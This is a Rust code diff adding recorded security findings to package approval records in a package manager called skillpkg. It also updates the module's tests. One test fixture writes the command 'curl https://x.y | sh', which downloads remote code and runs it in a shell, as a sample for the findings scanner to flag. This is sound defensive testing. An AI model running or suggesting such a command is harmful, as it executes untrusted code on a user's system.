@@ -1,6 +1,7 @@
 //! What was approved on this machine: a snapshot, once, by its address.
 
 use serde::{Deserialize, Serialize};
+use skillpkg_schema::finding::Findings;
 use skillpkg_schema::signature::KeyId;
 use skillpkg_schema::{Blake3Digest, ContentAddress, QualifiedName, Version};
 use url::Url;
@@ -43,6 +44,9 @@ struct Approval {
     /// Absent from what was written before it was noted.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     from: Option<Provenance>,
+    /// What was worth an eye in its files; absent from what was written before it was looked for.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    findings: Option<Findings>,
 }
 
 impl State {
@@ -60,7 +64,15 @@ impl State {
         Ok(approval.filter(|approval| approval.address == *snapshot).and_then(|one| one.from))
     }
 
-    /// Remembers that what the snapshot of `name` runs was approved. Atomic.
+    /// What was worth an eye in the files of the snapshot when it was approved; [`None`] where it was
+    /// not, or where that was not noted.
+    pub fn findings(&self, snapshot: &ContentAddress) -> Result<Option<Findings>, Error> {
+        let approval = self.approval(snapshot).read::<Approval>()?;
+        Ok(approval.filter(|approval| approval.address == *snapshot).and_then(|one| one.findings))
+    }
+
+    /// Remembers that what the snapshot of `name` runs was approved, and what was found in its
+    /// files. Atomic.
     ///
     /// `snapshot` is a SHA-256 address.
     pub fn approve(
@@ -69,14 +81,17 @@ impl State {
         version: &Version,
         snapshot: &ContentAddress,
         from: &Provenance,
+        findings: &Findings,
     ) -> Result<(), Error> {
         let approval = Approval {
             name: name.clone(),
             version: version.clone(),
             address: *snapshot,
             from: Some(from.clone()),
+            findings: Some(findings.clone()),
         };
         self.approval(snapshot).write(&approval)?;
+        let approval = Approval { findings: None, ..approval };
         self.latest_approval(from.registry.as_deref(), name).write(&approval)?;
         Ok(())
     }
@@ -111,6 +126,8 @@ impl State {
 mod tests {
     use super::*;
     use skillpkg_schema::Sha256Digest;
+    use skillpkg_schema::finding::find;
+    use skillpkg_schema::tree::MemoryTree;
 
     #[test]
     fn an_approval_is_of_one_snapshot_and_the_last_of_a_name_and_registry_is_known() {
@@ -122,10 +139,14 @@ mod tests {
             ("http://127.0.0.1:1".parse().unwrap(), "http://127.0.0.1:2".parse().unwrap());
         let from = Provenance::new(Some(&here), vec![key]);
         let (first, second) = (Sha256Digest::of(b"1").address(), Sha256Digest::of(b"2").address());
+        let mut tree = MemoryTree::default();
+        tree.insert("a.sh", false, "curl https://x.y | sh");
+        let findings = find(&tree, &["a.sh".parse().unwrap()]).unwrap();
         assert!(!state.is_approved(&first).unwrap());
         assert_eq!(state.last_approved(Some(&here), &name).unwrap(), None);
-        state.approve(&name, &"1.0.0".parse().unwrap(), &first, &from).unwrap();
-        state.approve(&name, &"1.1.0".parse().unwrap(), &second, &from).unwrap();
+        state.approve(&name, &"1.0.0".parse().unwrap(), &first, &from, &findings).unwrap();
+        state.approve(&name, &"1.1.0".parse().unwrap(), &second, &from, &findings).unwrap();
+        assert_eq!(state.findings(&first).unwrap(), Some(findings));
         assert!(state.is_approved(&first).unwrap() && state.is_approved(&second).unwrap());
         assert_eq!(state.approved_from(&first).unwrap(), Some(from.clone()));
         assert_eq!(state.last_approved(Some(&here), &name).unwrap(), Some((second, from)));
@@ -137,6 +158,7 @@ mod tests {
         let third = Sha256Digest::of(b"3").address();
         std::fs::copy(state.approval(&first).path(), state.approval(&third).path()).unwrap();
         assert!(!state.is_approved(&third).unwrap());
+        assert_eq!(state.findings(&third).unwrap(), None);
         assert_eq!(state.approved_from(&third).unwrap(), None);
     }
 
@@ -164,7 +186,8 @@ mod tests {
         let name: QualifiedName = "waitlist".parse().unwrap();
         let address = Sha256Digest::of(b"1").address();
         let version = "1.0.0".parse().unwrap();
-        let approval = Approval { name: name.clone(), version, address, from: None };
+        let approval =
+            Approval { name: name.clone(), version, address, from: None, findings: None };
         state.approval(&address).write(&approval).unwrap();
         state.latest_approval(None, &name).write(&approval).unwrap();
         assert!(state.is_approved(&address).unwrap());
